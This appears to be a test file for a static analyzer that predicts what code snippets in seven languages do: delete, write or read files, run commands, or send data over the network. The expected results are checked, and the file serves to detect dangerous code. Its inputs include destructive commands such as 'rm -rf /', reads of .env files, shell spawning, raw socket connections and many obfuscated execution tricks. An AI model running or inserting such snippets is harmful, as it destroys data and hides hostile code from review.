import { describe, expect, test } from "bun:test";
import fc from "fast-check";
import { effectsOfCode } from "./code.ts";
import type { Effect, Language } from "./model.ts";
import { growsTooFast, repeated } from "../testing/growth.ts";

const gone = (path?: string, how = ""): Effect => ({
  do: "delete",
  ...(path !== undefined && { path }),
  ...(how.includes("r") && { recursive: true }),
  ...(how.includes("f") && { force: true }),
});
const wrote = (path?: string, text?: string): Effect => ({
  do: "write",
  ...(path !== undefined && { path }),
  ...(text !== undefined && { text }),
});
const added = (path: string, text?: string): Effect => ({ ...wrote(path, text), append: true }) as Effect;
const saw = (path?: string): Effect => ({ do: "read", ...(path !== undefined && { path }) });
const ran = (command?: string): Effect => ({ do: "exec", ...(command !== undefined && { command }) });
const got = (url?: string): Effect => ({ do: "fetch", ...(url !== undefined && { url }) });
const sent = (url?: string): Effect => ({ ...got(url), sends: true }) as Effect;

const base64 = (code: string): string => Buffer.from(code).toString("base64");
const hex = (code: string): string => Buffer.from(code).toString("hex");

const programs: Readonly<Record<Language, readonly (readonly [string, ...Effect[]])[]>> = {
  python: [
    ["import os; os.remove('/etc/x')", gone("/etc/x")],
    ["import os as o; o.unlink('x')", gone("x")],
    ["from os import remove; remove('x')", gone("x")],
    ["from os import (unlink as u, rmdir)\nu('x')\nrmdir('y')", gone("x"), gone("y")],
    ["from os import *\nremove('x')", gone("x")],
    ["import shutil\nshutil.rmtree('/tmp/x')", gone("/tmp/x", "r")],
    ["from shutil import rmtree as r; r('/' + 'x', ignore_errors=True)", gone("/x", "rf")],
    ["shutil.rmtree('x', ignore_errors=False)", gone("x", "r")],
    ["from pathlib import Path; Path('x').unlink(missing_ok=True)", gone("x")],
    ["import pathlib; (pathlib.Path('/') / 'etc' / 'x').unlink()", gone("/etc/x")],
    ["from pathlib import Path\nPath('a', 'b').rmdir()", gone("a/b")],
    ["from pathlib import Path\nPath.home().joinpath('x').write_text('hi')", wrote("~/x", "hi")],
    ["for p in Path('.').glob('*.pyc'): p.unlink()", gone("./*.pyc")],
    ["for p in things(): p.unlink()", gone()],
    ["import os\nfor f in ['a', 'b']:\n    os.remove(f)", gone("a"), gone("b")],
    ["[os.remove(f) for f in ('a', 'b')]", gone("a"), gone("b")],
    ["for f in glob.glob('/tmp/*.log'): os.remove(f)", gone("/tmp/*.log")],
    ["for r, d, fs in os.walk('/x'):\n for f in fs:\n  os.remove(os.path.join(r, f))", gone("/x/*")],
    ["for f in os.listdir('/d'): os.unlink(os.path.join('/d', f))", gone("/d/*")],
    ["list(map(os.remove, ['a', 'b']))", gone("a"), gone("b")],
    ["os.remove(sys.argv[1])", gone()],
    ["os.remove(os.path.expanduser('~/x'))", gone("~/x")],
    ["os.remove(os.environ['HOME'] + '/x')", gone("~/x")],
    ["os.remove(os.path.join(os.getenv('HOME'), 'x'))", gone("~/x")],
    ["os.remove(f'{os.environ[\"HOME\"]}/x')", gone("~/x")],
    ["d = '/etc'; os.remove(d + '/x')", gone("/etc/x")],
    ["d: str = '/etc'\nos.remove(f'{d}/x')", gone("/etc/x")],
    ["a, b = 'x', 'y'\nos.remove(b)", gone("y")],
    ["x = 'a' if c else 'b'\nos.remove(x)", gone("a"), gone("b")],
    ["x = 'a'\nif c:\n    x = 'b'\nos.remove(x)", gone("a"), gone("b")],
    ["x = 'a'\nx = 'b'\nos.remove(x)", gone("b")],
    ["x = '/e'\nx += 'tc'\nos.remove(x)", gone("/etc")],
    ["os.chdir('/etc'); os.remove('x'); os.system('ls')", gone("/etc/x"), ran("cd /etc && ls")],
    ["p = tempfile.mkdtemp(); shutil.rmtree(p)", gone("/tmp/tmp.XXXXXXXX", "r")],
    ["os.rename('a', 'b')", gone("a", "r"), wrote("b")],
    ["shutil.move(src='a', dst='b')", gone("a", "r"), wrote("b")],
    ["shutil.copyfile('.env', '/tmp/x')", saw(".env"), wrote("/tmp/x")],
    ["os.makedirs('a/b', exist_ok=True)", wrote("a/b")],
    ["os.chmod('/x', 0o777)", ran("chmod 777 /x")],
    ["Path('x').chmod(0o755)", ran("chmod 755 x")],
    ["os.symlink('/etc/passwd', 'x')", ran("ln -sT /etc/passwd x")],
    ["open('x', 'w').write('hello')", wrote("x", "hello")],
    ["with open('x', 'w') as f:\n    f.write('a')\n    f.write('b\\n')", wrote("x", "ab\n")],
    ["with open('x', mode='a') as f: f.write(data)", added("x")],
    ["with open('x', 'w') as f:\n    for i in y:\n        f.write('a')", wrote("x")],
    ["open('x', 'xb')", wrote("x")],
    ["open('x', mode)", saw("x"), wrote("x")],
    ["print(open('.env').read())", saw(".env")],
    ["json.load(open('a.json', 'rb'))", saw("a.json")],
    ["os.open('x', os.O_WRONLY | os.O_CREAT)", wrote("x")],
    ["os.open('x', os.O_RDONLY)", saw("x")],
    ["Path('x').write_bytes(b'\\x61')", wrote("x", "a")],
    ["print(Path('x').read_text())", saw("x")],
    ["Path('x').open('w')", wrote("x")],
    ["df.to_csv('out.csv')", wrote("out.csv")],
    ["import os; os.system('rm -rf /')", ran("rm -rf /")],
    ["os.system('\\x72\\x6d -rf /')", ran("rm -rf /")],
    ["os.system(r'rm \\d')", ran("rm \\d")],
    ["os.system('rm ' '-rf ' '/')", ran("rm -rf /")],
    ["os.system('rm -rf ' + path)", ran("rm -rf $unknown")],
    ["os.system(f\"rm -rf '{path}'\")", ran("rm -rf ''\"$unknown\"''")],
    ["os.system(f'{cmd}')", ran()],
    ["os.system('rm %s' % 'x')", ran("rm x")],
    ["os.system('rm {} {b}'.format('a', b='c'))", ran("rm a c")],
    ["os.system(cmd)", ran()],
    ["import subprocess\nsubprocess.run(['rm', '-rf', '/a b'])", ran("rm -rf '/a b'")],
    ["subprocess.run(['rm', '-rf', path], check=True)", ran('rm -rf "$unknown"')],
    ["subprocess.check_output('ls | sh', shell=True)", ran("ls | sh")],
    ["subprocess.call(['rm -rf /'], shell=True)", ran("rm -rf /")],
    ["subprocess.Popen(args=['ls'], cwd='/x')", ran("cd /x && ls")],
    ["subprocess.run(['sh'], input='rm -rf /')", ran("printf '%s\\n' 'rm -rf /' | sh")],
    ["subprocess.run(shlex.split('rm -rf /'))", ran("rm -rf /")],
    ["subprocess.run('rm -rf /'.split())", ran("rm -rf /")],
    ["subprocess.run(['rm'] + ['-rf', '/'])", ran("rm -rf /")],
    ["subprocess.run(['rm', *files])", ran('rm "$unknown"')],
    ["os.execvp('rm', ['rm', '-rf', '/'])", ran("rm -rf /")],
    ["os.execl('/bin/rm', 'rm', '-rf', '/')", ran("/bin/rm -rf /")],
    ["os.spawnlp(os.P_WAIT, 'rm', 'rm', 'x')", ran("rm x")],
    ["import pty; pty.spawn('/bin/sh')", ran("/bin/sh")],
    ["getattr(os, 'sys' + 'tem')('id')", ran("id")],
    ["__import__('o' + 's').system('id')", ran("id")],
    ["importlib.import_module('subprocess').run('id')", ran("id")],
    ["s = os.system; s('id')", ran("id")],
    ["sys.modules['os'].system('id')", ran("id")],
    ["ｏｓ.system('id')", ran("id")],
    ["os.system(''.join(chr(c) for c in [114, 109]))", ran("rm")],
    ["os.system(''.join(map(chr, [114, 109])))", ran("rm")],
    ["os.system('mr'[::-1])", ran("rm")],
    ["os.system('r' + 'm' * 2)", ran("rmm")],
    ["os.system(' '.join(['rm', '-rf', '/']))", ran("rm -rf /")],
    ["os.system(bytes.fromhex('6c73').decode())", ran("ls")],
    [`exec(__import__('base64').b64decode('${base64("import os; os.remove('x')")}'))`, gone("x")],
    [
      `exec(base64.b64decode('${base64(`exec(base64.b64decode('${base64("os.system('id')")}'))`)}'))`,
      ran("id"),
    ],
    ["exec(codecs.decode('bf.flfgrz(\"vq\")', 'rot13'))", ran("id")],
    ["eval(compile(\"os.remove('x')\", '', 'exec'))", gone("x")],
    ["exec(marshal.loads(x))", ran()],
    ["exec(zlib.decompress(base64.b64decode('eJw=')))", ran()],
    ["exec(open('x.py').read())", saw("x.py"), ran()],
    ["import requests; requests.get('https://a.b/c')", got("https://a.b/c")],
    ["requests.post('https://a.b/?x=' + y, data=z)", sent("https://a.b/?x=")],
    ["requests.get(url)", got()],
    ["s = requests.Session(); s.put('https://a.b', json=x)", sent("https://a.b")],
    ["urllib.request.urlopen('http://a.b').read()", got("http://a.b")],
    ["urllib.request.urlretrieve('http://a.b', 'x')", got("http://a.b"), wrote("x")],
    ["c = http.client.HTTPSConnection('a.b'); c.request('POST', '/x', body)", sent("https://a.b/x")],
    ["s = socket.socket(); s.connect(('1.2.3.4', 4444))", sent("tcp://1.2.3.4:4444")],
    ["def clean(p):\n    shutil.rmtree(p)\nclean('/')", gone(undefined, "r")],
    ["(lambda: os.remove('x'))()", gone("x")],
    ["try:\n  os.remove('x')\nexcept OSError as e:\n  pass", gone("x")],
    ["if True: os.remove(\n  'x'  # why\n)", gone("x")],
    ["os\\\n.remove('x')", gone("x")],
    ["print('os.remove(\"x\")')"],
    ["# os.remove('x')\nprint(1)"],
    ["'''\nos.remove('x')\n'''"],
    ['x = """os.system(\'rm\')"""'],
    ["print(f'{x} os.remove(1)')"],
    ["print('it\\'s os.remove(\"x\")')"],
    ["print(r'\\'' + \"os.remove('x')\")"],
    ["items.remove('x'); d.pop('y')"],
    ["remove('x')"],
    ["platform.system()"],
    ["re.compile('x').sub('a', 'b').replace('c', 'd')"],
    ["print(os.path.exists('/etc/passwd'), os.getcwd())"],
    ["sys.stdout.write('x')"],
    ["{'os.remove': 1}['os.remove']"],
  ],
  javascript: [
    ["require('fs').rmSync('/etc/x', { recursive: true, force: true })", gone("/etc/x", "rf")],
    ["const fs = require('node:fs'); fs.unlinkSync('x')", gone("x")],
    ["const { rmSync, unlinkSync: u } = require('fs'); rmSync('x'); u('y')", gone("x"), gone("y")],
    ["import { rm as r } from 'fs/promises'; await r('x', {recursive: true})", gone("x", "r")],
    ["import * as fs from 'node:fs'; fs.rmdirSync('x')", gone("x")],
    ["import fs, { unlink } from 'fs'; unlink('x', () => {}); fs.rm('y', cb)", gone("x"), gone("y")],
    ["fs.promises.unlink('x')", gone("x")],
    ["(await import('fs')).rmSync('x')", gone("x")],
    ["import('fs').then(({ rmSync }) => rmSync('x'))", gone("x")],
    ["import('fs').then(m => m.default.rmSync('x'))", gone("x")],
    ["['a', 'b'].forEach(f => fs.unlinkSync(f))", gone("a"), gone("b")],
    ["['a'].forEach(fs.unlinkSync)", gone("a")],
    ["for (const f of fs.readdirSync('/d')) fs.unlinkSync(path.join('/d', f))", gone("/d/*")],
    ["for (const f of ['a', 'b']) { fs.unlinkSync(f) }", gone("a"), gone("b")],
    ["fs.rmSync(process.argv[2])", gone()],
    ["fs.rmSync(process.env.HOME + '/x')", gone("~/x")],
    ["fs.rmSync(`${os.homedir()}/x`)", gone("~/x")],
    ["fs.rmSync(path.join(process.cwd(), 'x'))", gone("./x")],
    ["fs.rmSync(path.resolve('/a', 'b'))", gone("/a/b")],
    ["const p: Map<string, string[]> = '/a'; fs.rmSync(p)", gone("/a")],
    ["let p = '/a'; if (q) p = '/b'; fs.rmSync(p)", gone("/a"), gone("/b")],
    ["const [a, b] = ['x', 'y']; fs.rmSync(b)", gone("y")],
    ["fs.rmSync(q ? 'a' : 'b')", gone("a"), gone("b")],
    ["fs['rm' + 'Sync']('x')", gone("x")],
    ["fs?.rmSync?.('x')", gone("x")],
    ["globalThis.fs.rmSync('x')", gone("x")],
    ["unknownThing.rmSync('x')", gone("x")],
    ["function f() { fs.rmSync('x') } f()", gone("x")],
    ["class A { m() { fs.rmSync('x') } }", gone("x")],
    ["x = { m() { fs.rmSync('x') } }", gone("x")],
    ["try { fs.rmSync('x') } catch {}", gone("x")],
    ["process.chdir('/etc'); fs.rmSync('x')", gone("/etc/x")],
    ["rimraf.sync('x')", gone("x", "rf")],
    ["require('fs-extra').removeSync('x')", gone("x", "rf")],
    ["require('shelljs').rm('-rf', 'x')", gone("x", "rf")],
    ["Deno.remove('x', { recursive: true })", gone("x", "r")],
    ["await Bun.file('x').delete()", gone("x")],
    ["fs.writeFileSync('x', 'text')", wrote("x", "text")],
    ["fs.writeFile('x', JSON.stringify(y), () => {})", wrote("x")],
    ["fs.appendFileSync('x', 'y')", added("x", "y")],
    ["const s = fs.createWriteStream('x'); s.write('a'); s.end('b')", wrote("x", "ab")],
    ["fs.createWriteStream('x', { flags: 'a' })", added("x")],
    ["const d = fs.openSync('x', 'w'); fs.writeSync(d, 'a')", wrote("x", "a")],
    ["await Bun.write('x', 'y')", wrote("x", "y")],
    ["await Deno.writeTextFile('x', 'y')", wrote("x", "y")],
    ["fs.copyFileSync('a', 'b')", saw("a"), wrote("b")],
    ["fs.renameSync('a', 'b')", gone("a", "r"), wrote("b")],
    ["fs.cpSync('a', 'b', { recursive: true })", saw("a"), wrote("b")],
    ["fs.mkdirSync('a', { recursive: true })", wrote("a")],
    ["fs.chmodSync('x', 0o777)", ran("chmod 777 x")],
    ["console.log(fs.readFileSync('.env', 'utf8'))", saw(".env")],
    ["console.log(await Bun.file('.env').text())", saw(".env")],
    ["require('child_process').execSync('rm -rf /')", ran("rm -rf /")],
    ["const cp = require('child_process'); cp.exec(`rm -rf ${dir}`, cb)", ran("rm -rf $unknown")],
    ["require('child_' + 'process')['exec' + 'Sync']('id')", ran("id")],
    ["process.mainModule.require('child_process').exec('id')", ran("id")],
    ["import { spawn } from 'child_process'; spawn('rm', ['-rf', '/a b'])", ran("rm -rf '/a b'")],
    ["child_process.spawnSync('rm -rf', ['/'], { shell: true })", ran("rm -rf /")],
    ["child_process.execFile('ls', { cwd: '/x' })", ran("cd /x && ls")],
    ["child_process.execFileSync('rm', args)", ran('rm "$unknown"')],
    ["child_process.execSync('sh', { input: 'id' })", ran("printf '%s\\n' id | sh")],
    ["util.promisify(require('child_process').exec)('id')", ran("id")],
    ["child_process.fork('x.js')", ran("node x.js")],
    ["await Bun.$`rm -rf ${dir}`", ran("rm -rf $unknown")],
    ["import { $ } from 'bun'; await $`ls`", ran("ls")],
    ["Bun.spawn(['rm', '-rf', '/'])", ran("rm -rf /")],
    ["Bun.spawnSync({ cmd: ['rm', 'x'] })", ran("rm x")],
    ["new Deno.Command('rm', { args: ['-rf', '/'] }).output()", ran("rm -rf /")],
    ["eval('fs.rmSync(\"x\")')", gone("x")],
    [`eval(Buffer.from('${base64("fs.rmSync('x')")}', 'base64').toString())`, gone("x")],
    [`eval(Buffer.from('${hex("fs.rmSync('x')")}', 'hex') + '')`, gone("x")],
    [`eval(atob('${base64("fs.rmSync('x')")}'))`, gone("x")],
    ["new Function('return fs.rmSync(\"x\")')()", gone("x")],
    ["vm.runInThisContext('fs.rmSync(\"x\")')", gone("x")],
    ["eval(String.fromCharCode(102, 115) + '.rmSync(\"x\")')", gone("x")],
    ["eval(')1(cnySmr.sf'.split('').reverse().join(''))", gone("1")],
    ["eval('\\u0066s.rmSync(1)')", gone("1")],
    ["\\u0065val('fs.rmSync(\"x\")')", gone("x")],
    ["eval(code)", ran()],
    ["fetch('https://a.b/c')", got("https://a.b/c")],
    ["fetch('https://a.b', { method: 'POST', body: x })", sent("https://a.b")],
    ["fetch(`https://a.b/${x}`)", got("https://a.b/")],
    ["fetch(`https://${host}/`)", got()],
    ["require('https').get('https://a.b', r => {})", got("https://a.b")],
    ["https.request({ hostname: 'a.b', path: '/c', method: 'POST' })", sent("https://a.b/c")],
    ["axios.post('https://a.b', data)", sent("https://a.b")],
    ["net.connect(4444, '1.2.3.4')", sent("tcp://1.2.3.4:4444")],
    ["// fs.rmSync('x')\n/* fs.rmSync('y') */"],
    ["console.log('fs.rmSync(1)', \"fs.rmSync(2)\", `fs.rmSync(3)`)"],
    ["const r = /fs.rmSync('x')/; r.exec('rm')"],
    ["a = b / c; d = 'fs.rmSync(1)' / e"],
    ["console.log(`${x} fs.rmSync(1)`)"],
    ["db.exec('rm -rf /')"],
    ["$('#id').remove()"],
    ["array.filter(x => x).map(y => y.name)"],
    ["fs.existsSync('x'); path.join('a', 'b')"],
    ["({ rmSync: 1 })"],
    ["const eval2 = 'eval'; console.log('eval(1)')"],
  ],
  perl: [
    ['unlink "/etc/x"', gone("/etc/x")],
    ['$_ = "ez n"; tr/a-z/n-za-m/; system($_)', ran("rm a")],
    ['($c = "sn b") =~ tr/a-z/za-y/; system $c', ran("rm a")],
    ['my $c = "ez n"; system($c =~ y/a-z/n-za-m/r)', ran("rm a")],
    ['my $c = "r-m a"; $c =~ tr/-//d; system $c', ran("rm a")],
    ["my $n = ($x =~ tr/a-z//); print $n"],
    ["unlink('a', 'b') or die", gone("a"), gone("b")],
    ['unlink glob("*.o")', gone("*.o")],
    ["unlink <*.c>", gone("*.c")],
    ["unlink @ARGV", gone()],
    ["unlink for glob('*')", gone()],
    ["rmdir 'x'", gone("x")],
    ["use File::Path qw(rmtree); rmtree('/tmp/x')", gone("/tmp/x", "r")],
    ["File::Path::remove_tree('x')", gone("x", "r")],
    ["my $d = '/tmp'; unlink \"$d/x\"", gone("/tmp/x")],
    ["my ($a, $b) = ('x', 'y'); unlink $a . $b", gone("xy")],
    ['unlink "$ENV{HOME}/x"', gone("~/x")],
    ["foreach my $f ('a', 'b') { unlink $f }", gone("a"), gone("b")],
    ["for (qw(a b)) { unlink $_ }", gone("a"), gone("b")],
    ["unlink q{x}, qq(y)", gone("x"), gone("y")],
    ["chdir '/etc'; unlink 'x'", gone("/etc/x")],
    ["rename 'a', 'b'", gone("a", "r"), wrote("b")],
    ["use File::Copy; copy('a', 'b')", saw("a"), wrote("b")],
    ["chmod 0777, 'a', 'b'", ran("chmod 777 a b")],
    ["open(my $f, '>', 'x') or die; print $f 'y'", wrote("x")],
    ["open(F, '>>x')", added("x")],
    ["open F, '<', 'x'", saw("x")],
    ["open(F, 'x')", saw("x")],
    ['open(F, ">$x")', wrote()],
    ["open(F, 'ls|')", ran("ls")],
    ["open F, '| sh'", ran("printf '%s\\n' \"$unknown\" | sh")],
    ["open(my $h, '-|', 'rm', '-rf', '/')", ran("rm -rf /")],
    ["system('rm -rf /')", ran("rm -rf /")],
    ["system 'rm', '-rf', '/a b'", ran("rm -rf '/a b'")],
    ["my @c = ('rm', '-rf', '/'); system(@c)", ran("rm -rf /")],
    ['exec "rm $x"', ran("rm $unknown")],
    ["my $o = `cat $f`", ran("cat $unknown")],
    ["print qx{ls /}", ran("ls /")],
    ["system('r' . 'm' . ' x')", ran("rm x")],
    ["system(join(' ', 'rm', 'x'))", ran("rm x")],
    ["system(sprintf('rm %s', 'x'))", ran("rm x")],
    ['system("\\x72m x")', ran("rm x")],
    ["system(scalar reverse('x mr'))", ran("rm x")],
    [`eval decode_base64("${base64("system('id')")}")`, ran("id")],
    [`eval pack("H*", "${hex("system('id')")}")`, ran("id")],
    ["eval { system('id') }", ran("id")],
    ["eval $code", ran()],
    ["$x =~ s/a/system('id')/e", ran("id")],
    ["use LWP::Simple; getstore('http://a.b', 'x')", got("http://a.b"), wrote("x")],
    ["LWP::UserAgent->new->post('http://a.b', {})", sent("http://a.b")],
    ["IO::Socket::INET->new(PeerAddr => '1.2.3.4', PeerPort => 80)", sent("tcp://1.2.3.4:80")],
    ["print <<EOT; unlink 'x';\nunlink 'y'\nEOT\nunlink 'z'", gone("x"), gone("z")],
    ["# unlink 'x'"],
    ["print 'unlink \"x\"', \"system('y')\""],
    ["my $s = q{unlink 'x'}; my $t = qq{system 'y'}"],
    ["if ($x =~ m/unlink 'x'/) {} $y =~ s/system 'a'/b/"],
    ["my %h = (unlink => 1, system => 'x'); print $h{system}, $o->{unlink}"],
    ["=pod\n\nunlink 'x'\n\n=cut\nprint 1"],
    ["print 1;\n__END__\nunlink 'x'"],
    ["$a = $b / $c; print 'system(1)' / 2"],
    ["while (<STDIN>) { print if /rm -rf/ }"],
    ["print join(',', map { $_ * 2 } 1..3)"],
  ],
  ruby: [
    ["File.delete('/etc/x')", gone("/etc/x")],
    ["File.unlink 'a', 'b'", gone("a"), gone("b")],
    ["require 'fileutils'; FileUtils.rm_rf 'x', verbose: true", gone("x", "rf")],
    ["FileUtils.rm_rf(%w[a b])", gone("a", "rf"), gone("b", "rf")],
    ["FileUtils.rm_r Dir.glob('*.o')", gone("*.o", "r")],
    ["Dir['*.c'].each { |f| File.delete(f) }", gone("*.c")],
    ["Dir.glob('/tmp/*').each do |f|\n  File.unlink f\nend", gone("/tmp/*")],
    ["%w(a b).each { |f| FileUtils.rm f }", gone("a"), gone("b")],
    ["Pathname.new('a').join('b').delete", gone("a/b")],
    ["Pathname.new('x').rmtree", gone("x", "r")],
    ["File.delete(File.join(Dir.home, 'x'))", gone("~/x")],
    ["File.delete(\"#{ENV['HOME']}/x\")", gone("~/x")],
    ["File.delete File.expand_path('~/x')", gone("~/x")],
    ["Dir.chdir('/etc'); File.delete 'x'", gone("/etc/x")],
    ["x = '/a'\nFile.delete x + '/b'", gone("/a/b")],
    ["File.delete(ARGV[0])", gone()],
    ["FileUtils.mv 'a', 'b'", gone("a", "r"), wrote("b")],
    ["FileUtils.cp_r('a', 'b')", saw("a"), wrote("b")],
    ["File.chmod(0777, 'x')", ran("chmod 777 x")],
    ["FileUtils.chmod_R 0755, 'x'", ran("chmod -R 755 x")],
    ["File.write('x', 'y')", wrote("x", "y")],
    ["File.open('x', 'w') { |f| f.write('a'); f.puts 'b' }", wrote("x", "ab\n")],
    ["File.open('x', 'a')", added("x")],
    ["puts File.read('.env')", saw(".env")],
    ["system 'rm -rf /'", ran("rm -rf /")],
    ["system('rm', '-rf', x)", ran('rm -rf "$unknown"')],
    ["system(*%w[rm -rf /])", ran("rm -rf /")],
    ["`rm -rf #{x}`", ran("rm -rf $unknown")],
    ["%x{ls /}", ran("ls /")],
    ['exec "ls"', ran("ls")],
    ["Kernel.system('id')", ran("id")],
    ["IO.popen(['rm', 'x'])", ran("rm x")],
    ["open('| ls')", ran("ls")],
    ["Open3.capture2('ls')", ran("ls")],
    ["send(:system, 'id')", ran("id")],
    ["Object.send('sys' + 'tem', 'id')", ran("id")],
    ["method(:system).call('id')", ran("id")],
    [`eval(Base64.decode64("${base64("system('id')")}"))`, ran("id")],
    [`eval '${base64("system('id')")}'.unpack1('m')`, ran("id")],
    [`eval ['${hex("system('id')")}'].pack('H*')`, ran("id")],
    ["eval code", ran()],
    ["system 'id' if x =~ /y/", ran("id")],
    ["Net::HTTP.get(URI('http://a.b'))", got("http://a.b")],
    ["URI.open('http://a.b')", got("http://a.b")],
    ["TCPSocket.new('1.2.3.4', 4444)", sent("tcp://1.2.3.4:4444")],
    ["t = <<~EOS\n  system('x')\nEOS\nsystem('y')", ran("y")],
    ["['a', 'b']\n  .each { |f| File.delete f }", gone("a"), gone("b")],
    ["# File.delete('x')"],
    ["puts \"File.delete('x')\", 'system(1)'"],
    ["s = %q{system 'x'}; r = /system 'x'/"],
    ["h = { system: 1, :exec => 2 }; obj.delete('x')"],
    ["=begin\nsystem 'x'\n=end\nputs 1"],
    ["x = a / b; y = 'system 1' / c"],
  ],
  php: [
    ["unlink('/etc/x');", gone("/etc/x")],
    [
      "copy('https://e.test/x', 'x.php'); include 'x.php';",
      { do: "fetch", url: "https://e.test/x" },
      wrote("x.php"),
      { do: "exec" },
    ],
    ["require_once('https://e.test/x');", { do: "fetch", url: "https://e.test/x" }, { do: "exec" }],
    ["require 'vendor/autoload.php'; echo App\\V::X;"],
    ['$d = "/tmp"; unlink("$d/x"); unlink("{$d}/y");', gone("/tmp/x"), gone("/tmp/y")],
    ["unlink($_GET['x']);", gone()],
    ["rmdir(getenv('HOME') . '/x');", gone("~/x")],
    ["foreach (['a', 'b'] as $f) { unlink($f); }", gone("a"), gone("b")],
    ["array_map('unlink', glob('*.log'));", gone("*.log")],
    ["\\unlink('x'); UNLINK('y'); @unlink('z');", gone("x"), gone("y"), gone("z")],
    ["rename('a', 'b');", gone("a", "r"), wrote("b")],
    ["copy('a', 'b');", saw("a"), wrote("b")],
    ["chmod('x', 0777);", ran("chmod 777 x")],
    ["file_put_contents('x', 'y');", wrote("x", "y")],
    ["file_put_contents('x', $y, FILE_APPEND);", added("x")],
    ["$h = fopen('x', 'w'); fwrite($h, 'y');", wrote("x", "y")],
    ["echo file_get_contents('.env');", saw(".env")],
    ["file_get_contents('https://a.b/c');", got("https://a.b/c")],
    ["system('rm -rf /');", ran("rm -rf /")],
    ['echo shell_exec("cat $x");', ran("cat $unknown")],
    ["exec('ls', $out, $code);", ran("ls")],
    ["passthru('ls'); $r = `id`;", ran("ls"), ran("id")],
    ["proc_open('sh', [], $p);", ran("printf '%s\\n' \"$unknown\" | sh")],
    ["popen('ls', 'r');", ran("ls")],
    ["$f = 'sys' . 'tem'; $f('id');", ran("id")],
    ["call_user_func('exec', 'id');", ran("id")],
    [`eval(base64_decode('${base64('system("id");')}'));`, ran("id")],
    ["eval(str_rot13('flfgrz(\"vq\");'));", ran("id")],
    ["eval(strrev(';)\"di\"(metsys'));", ran("id")],
    ["eval(gzinflate(base64_decode('xx')));", ran()],
    ["<?php system('a'); ?> system('b') <?php system('c');", ran("a"), ran("c")],
    ["$c = curl_init('https://a.b'); curl_exec($c);", got("https://a.b")],
    ["fsockopen('1.2.3.4', 80);", sent("tcp://1.2.3.4:80")],
    ["echo <<<EOT\nunlink('x');\nEOT;\nunlink('y');", gone("y")],
    ["// unlink('x')\n# unlink('y')\n/* unlink('z') */"],
    ["echo \"unlink('x')\", 'system(1)';"],
    ["$pdo->exec('rm'); $o->system('x'); A::unlink('y');"],
    ["echo strlen('x');"],
  ],
  awk: [
    ['BEGIN { system("rm -rf /") }', ran("rm -rf /")],
    ['{ system("rm " $1) }', ran("rm $unknown")],
    ['BEGIN { c = "rm " "-rf " ENVIRON["HOME"]; system(c) }', ran("rm -rf $HOME")],
    ['{ print $1 > "x" }', wrote("x")],
    ['BEGIN { print "a" > "x" }', wrote("x", "a")],
    ['{ print $1, $2 >> "x"; next }', added("x")],
    ['{ printf("%s\\n", $1) > ("d/" "x") }', wrote("d/x")],
    ['{ print > $1 ".txt" }', wrote()],
    ['BEGIN { print "rm -rf /" | "sh" }', ran("printf '%s\\n' 'rm -rf /' | sh")],
    ['BEGIN { "date" | getline d; print d }', ran("date")],
    ['BEGIN { while (("ls" | getline x) > 0) print x }', ran("ls")],
    ['BEGIN { while ((getline x < "f") > 0) print x }', saw("f")],
    ['BEGIN { s = "/inet/tcp/0/a.b/80"; print "x" |& s }', sent("tcp://a.b:80")],
    ["{ print $1 }"],
    ["$1 > 5 { n++ } END { print n }"],
    ['/system\\("x"\\)/ { print "system(\\"y\\")" } # system("z")'],
    ['NR == 1 { sub(/a/, "b"); print; next } { print $0 / 2 }'],
    ['{ print ($1 > 5) ? "a" : "b" }'],
  ],
  lua: [
    ['os.remove("/etc/x")', gone("/etc/x")],
    ["os.remove 'x'", gone("x")],
    ["os.remove[[x]] os.remove [==[y]==]", gone("x"), gone("y")],
    ["local d = '/etc'; os.remove(d .. '/x')", gone("/etc/x")],
    ["os.rename('a', 'b')", gone("a", "r"), wrote("b")],
    ['io.open("x","w")', wrote("x")],
    ['local f = io.open("x", "w") f:write("a", "b") f:close()', wrote("x", "ab")],
    ['io.open("x", "w"):write("y"):close()', wrote("x", "y")],
    ["assert(io.open('x', 'a')):write('y')", added("x", "y")],
    ["io.output('x')\nio.write('y')", wrote("x")],
    ["for l in io.lines('.env') do print(l) end", saw(".env")],
    ["print(io.open('x'):read('*a'))", saw("x")],
    ["for _, f in ipairs({'a', 'b'}) do os.remove(f) end", gone("a"), gone("b")],
    ["for i = 1, 3 do os.remove(names[i]) end", gone()],
    ["os.execute('rm -rf ' .. os.getenv('HOME'))", ran("rm -rf $HOME")],
    ["io.popen('ls'):read('a')", ran("ls")],
    ["io.popen('sh', 'w'):write(x)", ran("printf '%s\\n' \"$unknown\" | sh")],
    ["load('os.remove(\"x\")')()", gone("x")],
    ["load(('xx'):rep(2))()", ran()],
    ["os[('evomer'):reverse()]('x')", gone("x")],
    ["os.execute(string.char(105, 100))", ran("id")],
    ["os.execute(table.concat({'rm', 'x'}, ' '))", ran("rm x")],
    ["local function f(a) os.remove('x') end", gone("x")],
    ["if x then os.remove('a') else os.remove('b') end", gone("a"), gone("b")],
    ["--[[ os.remove('x') ]] -- os.remove('y')\nprint('os.remove(1)')"],
    ["local s = [[os.remove('x')]] return #s"],
    ["t:remove('x') table.remove(t, 1)"],
  ],
};

for (const [language, cases] of Object.entries(programs) as [Language, (typeof programs)[Language]][]) {
  describe(`what a program in ${language} does`, () => {
    test.each(cases.map(([code, ...effects]) => [code, effects] as const))("%s", (code, effects) => {
      expect(effectsOfCode(language, code)).toEqual([...effects]);
    });
  });
}

const languages = Object.keys(programs) as Language[];

test("no case is there twice", () => {
  for (const cases of Object.values(programs)) {
    const codes = cases.map(([code]) => code);
    expect(new Set(codes).size).toBe(codes.length);
  }
});

test("a program too long to read may do anything", () => {
  for (const language of languages)
    expect(effectsOfCode(language, " ".repeat(256 * 1024 + 1))).toEqual([ran()]);
});

test("code in code in code is followed to a limit and then may do anything", () => {
  let code = "os.remove('x')";
  for (let depth = 0; depth < 3; depth++) code = `exec(${JSON.stringify(code)})`;
  expect(effectsOfCode("python", code)).toEqual([gone("x")]);
  for (let depth = 0; depth < 3; depth++) code = `exec(${JSON.stringify(code)})`;
  expect(effectsOfCode("python", code)).toEqual([ran()]);
});

test("a call is seen however deep the brackets around it are", () => {
  const deep = `${"(".repeat(5000)}os.remove('x')${")".repeat(5000)}`;
  expect(effectsOfCode("python", deep)).toEqual([gone("x")]);
  expect(effectsOfCode("python", `${"a(".repeat(150)}os.remove('x')${")".repeat(150)}`)).toEqual([gone("x")]);
  expect(effectsOfCode("python", `${"a(".repeat(5000)}os.remove('x')${")".repeat(5000)}`)).toEqual([ran()]);
});

test("texts that grow without end are given up, what is done with them is not", () => {
